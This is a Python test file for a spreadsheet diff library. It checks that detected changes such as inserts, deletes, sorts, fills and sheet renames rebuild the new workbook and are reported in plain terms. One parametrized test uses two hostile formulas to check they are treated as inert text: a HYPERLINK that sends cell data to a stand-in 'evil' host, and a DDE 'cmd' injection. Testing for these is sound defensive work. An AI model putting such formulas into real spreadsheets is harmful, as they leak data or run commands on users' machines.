"""Changes, repeated on the old version, give the new one; and they are said as a person would."""

from __future__ import annotations

from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from guildbook.record.sources._sheets_book import Book, Cell, Sheet, dumped, loaded
from guildbook.record.sources._sheets_diff import Changes, Lines, Renamed, changes
from guildbook.record.sources._sheets_formulas import Place, moved, relative
from guildbook.record.sources._sheets_rows import rows_of

Cells = dict[Place, Cell]


def cell(text: str) -> Cell:
    return Cell(text, "", "") if text.startswith("=") else Cell("", text, "")


def sheet(name: str, *rows: list[Any]) -> Sheet:
    return Sheet(
        name, {(r, c): cell(str(text)) for r, row in enumerate(rows) for c, text in enumerate(row) if text != ""}
    )


TEXTS = st.sampled_from(["", "a", "b", "1", "2", "=A1+1", "=B2*$C$1", "=SUM(A1:B3)", "=Other!A2"])
TABLES = st.lists(st.lists(TEXTS, max_size=4), max_size=6)


@st.composite
def edited(draw: st.DrawFn) -> tuple[Book, Book]:
    """A book, and what became of it by acts as people do them."""
    rows = draw(TABLES)
    old = Book([sheet("One", *rows), sheet("Other", *draw(TABLES))])
    after = [list(row) for row in rows]
    for _ in range(draw(st.integers(0, 3))):
        act = draw(st.sampled_from(["insert", "delete", "sort", "edit", "column", "rewrite"]))
        at = draw(st.integers(0, max(len(after) - 1, 0)))
        if act == "insert":
            after.insert(at, draw(st.lists(TEXTS, max_size=4)))
        elif act == "delete" and after:
            del after[at]
        elif act == "sort":
            after.sort(key=str)
        elif act == "edit" and after:
            after[at] = [*after[at], draw(TEXTS)]
        elif act == "column":
            after = [[draw(TEXTS), *row] for row in after]
        elif act == "rewrite":
            after = draw(TABLES)
    name = draw(st.sampled_from(["One", "Renamed"]))
    sheets = [sheet(name, *after), *draw(st.sampled_from([old.sheets[1:], [], [sheet("Third", ["x"])]]))]
    return old, Book(sheets)


def applied(old: Book, found: Changes) -> dict[str, dict[Place, set[str]]]:
    """The old version with the changes done to it: sheet → place → text."""
    names = {change.before: change.after for change in found.sheets if change.before}
    sheets = {names.get(s.name, s.name): s for s in old.sheets if names.get(s.name, s.name)}
    renamed = {s.name: name for name, s in sheets.items() if s.name != name}
    axes = {name: _axes(name, found) for name in sheets}
    out: dict[str, dict[Place, set[str]]] = {change.after: {} for change in found.sheets if change.after}
    for name, before in sheets.items():
        orders = [change.order for change in found.sorted if change.sheet == name]
        order = orders[0] if orders else {}

        def shift(other: str, place: Place) -> Place | None:
            known = axes.get(renamed.get(other, other)) if other in {s.name for s in sheets.values()} else None
            return place if known is None else _through(known, place)

        cells: dict[Place, set[str]] = {}
        for place, now in before.cells.items():
            there = _through(axes[name], place)
            if there is None:
                continue
            to = order.get(there[0], there[0]), there[1]
            text = {now.text}
            if now.formula:
                text = {moved(now.formula, before.name, shift, renamed)}
                # A row that changed places was sorted, and reads as a copy would, or cut and put elsewhere.
                text |= {f"@{relative(now.formula, *place)}"} if order and to != place else set()
            cells[to] = text
        out[name] = cells
    for change in found.cells:
        out.setdefault(change.sheet, {})[change.place] = {change.after.text}
    return {name: {p: t for p, t in cells.items() if t != {""}} for name, cells in out.items()}


def _axes(name: str, found: Changes) -> tuple[list[Lines], list[Lines]]:
    mine = [change for change in found.lines if change.sheet == name]
    return [c for c in mine if c.direction == "rows"], [c for c in mine if c.direction == "columns"]


def _through(axes: tuple[list[Lines], list[Lines]], place: Place) -> Place | None:
    out: list[int] = []
    for changes_of, line in zip(axes, place, strict=True):
        gone = [c for c in changes_of if not c.inserted]
        if any(c.first <= line < c.first + c.size for c in gone):
            return None
        now = line - sum(c.size for c in gone if c.first < line)
        for come in sorted((c for c in changes_of if c.inserted), key=lambda c: c.first):
            if come.first <= now:
                now += come.size
        out.append(now)
    return out[0], out[1]


@settings(max_examples=400)
@given(edited())
def test_changes_repeated_give_the_new_version(pair: tuple[Book, Book]) -> None:
    old, new = pair
    done = applied(old, changes(old, new))
    for now in new.sheets:
        texts = {place: cell.text for place, cell in now.cells.items()}
        got = done.get(now.name, {})
        assert got.keys() == texts.keys()
        for place, text in got.items():
            assert text & {texts[place], f"@{relative(texts[place], *place)}"}
    assert done.keys() == {now.name for now in new.sheets}


@given(edited())
def test_nothing_changed_says_nothing_and_books_keep(pair: tuple[Book, Book]) -> None:
    old, new = pair
    assert not changes(new, new)
    assert loaded(dumped(old)) == old


HEAD = ["Item", "Qty", "Price", "Total"]


def bill(rows: int = 40) -> list[list[Any]]:
    return [HEAD, *([f"item {n}", n * 7 % 11, 2.5, f"=B{n + 2}*C{n + 2}"] for n in range(rows))]


def told(old: Book, new: Book) -> list[tuple[Any, ...]]:
    rows = rows_of(changes(old, new), new)
    return [
        (r["action"], r["element_role"], r["element_id"], r.get("value_before"), r.get("value_after")) for r in rows
    ]


def moved_bill(rows: list[list[Any]]) -> list[list[Any]]:
    """The rows with each formula about its own row, as a program leaves them."""
    return [
        [*row[:3], f"=B{n + 1}*C{n + 1}"] if len(row) > 3 and str(row[3]).startswith("=") else row
        for n, row in enumerate(rows)
    ]


def test_a_row_put_in_is_one_row() -> None:
    rows = bill()
    after = moved_bill([*rows[:10], ["fresh", 1, 2, "=B0*C0"], *rows[10:]])
    assert told(Book([sheet("Bill", *rows)]), Book([sheet("Bill", *after)])) == [
        ("insert", "rows", "Bill!11:11", None, None),
        ("edit", "cell", "Bill!A11", None, "fresh"),
        ("edit", "cell", "Bill!B11", None, "1"),
        ("edit", "cell", "Bill!C11", None, "2"),
        ("edit", "cell", "Bill!D11", None, "=B11*C11"),
    ]


def test_rows_taken_out_are_rows_taken_out() -> None:
    rows = bill()
    after = moved_bill([*rows[:5], *rows[8:]])
    assert told(Book([sheet("Bill", *rows)]), Book([sheet("Bill", *after)])) == [
        ("delete", "rows", "Bill!6:8", None, None)
    ]


def test_a_column_put_in_moves_no_cells() -> None:
    rows = bill()
    after = [[row[0], "VAT" if n == 0 else "", *row[1:]] for n, row in enumerate(rows)]
    shifted = [[*row[:4], f"=C{n + 1}*D{n + 1}" if n else row[4]] for n, row in enumerate(after)]
    assert told(Book([sheet("Bill", *rows)]), Book([sheet("Bill", *shifted)])) == [
        ("insert", "columns", "Bill!B:B", None, None),
        ("edit", "cell", "Bill!B1", None, "VAT"),
    ]


def test_sorting_is_sorting() -> None:
    rows = bill()
    after = moved_bill([rows[0], *sorted(rows[1:], key=lambda row: row[1])])
    found = rows_of(changes(Book([sheet("Bill", *rows)]), new := Book([sheet("Bill", *after)])), new)
    assert [(r["action"], r["element_id"], r["attributes"]) for r in found] == [
        ("sort", "Bill!3:41", '{"by":["Qty"],"rows":38}')
    ]


def test_a_formula_filled_down_is_one_row() -> None:
    rows = bill()
    after = [[*row, f"=D{n + 1}*0.19" if n else "Tax"] for n, row in enumerate(rows)]
    found = rows_of(changes(Book([sheet("Bill", *rows)]), new := Book([sheet("Bill", *after)])), new)
    assert [(r["action"], r["element_id"], r["element_name"], r["value_after"]) for r in found] == [
        ("edit", "Bill!E1", None, "Tax"),
        ("fill", "Bill!E2:E41", "Tax", "=D2*0.19"),
    ]
    assert found[1]["attributes"] == '{"cells":40,"formula_r1c1":"=RC[-1]*0.19"}'


def test_numbers_that_go_on_are_a_series() -> None:
    old, new = Book([sheet("S", ["n"])]), Book([sheet("S", ["n"], *([k] for k in range(1, 9)))])
    assert told(old, new) == [("fill", "range", "S!A2:A9", None, "1 … 8")]


def test_a_table_typed_over_is_one_block() -> None:
    old = Book([sheet("S", ["a"])])
    new = Book([sheet("S", ["a"], *([f"x{r}", f"y{r}", f"z{r * r}"] for r in range(30)))])
    found = told(old, new)
    assert [row[:3] for row in found] == [("edit", "range", "S!A2:C31")]
    assert str(found[0][4]).startswith("x0\ty0\tz0\nx1\ty1\tz1\n")


def test_sheets_come_go_and_get_names() -> None:
    old = Book([sheet("One", *bill()), sheet("Two", ["x", "y"], ["=One!D2"])])
    new = Book([sheet("First", *bill()), sheet("Two", ["x", "y"], ["=First!D2"]), sheet("Three")])
    assert changes(old, new).sheets == [Renamed("One", "First"), Renamed("", "Three")]
    assert not changes(old, new).cells
    assert changes(new, Book(new.sheets[:1])).sheets == [Renamed("Two", ""), Renamed("Three", "")]


@pytest.mark.parametrize("after", ["=SUM(B2:B41)", '=HYPERLINK("http://evil/"&A1)', "=cmd|'/c calc'!A0"])
def test_hostile_formulas_are_texts(after: str) -> None:
    old, new = Book([sheet("S", ["a", "b"])]), Book([sheet("S", ["a", after])])
    assert told(old, new) == [("edit", "cell", "S!B1", "b", after)]


def test_contents_stay_where_they_are_wanted() -> None:
    old, new = Book([sheet("Bill", *bill())]), Book([sheet("Bill", *bill()[:20], ["mine", 5, 6, "=SUM(B2:B9)"])])
    for row in rows_of(changes(old, new), new, values=False):
        assert not row.get("value_before")
        assert not row.get("value_after")
        assert "mine" not in str(row)
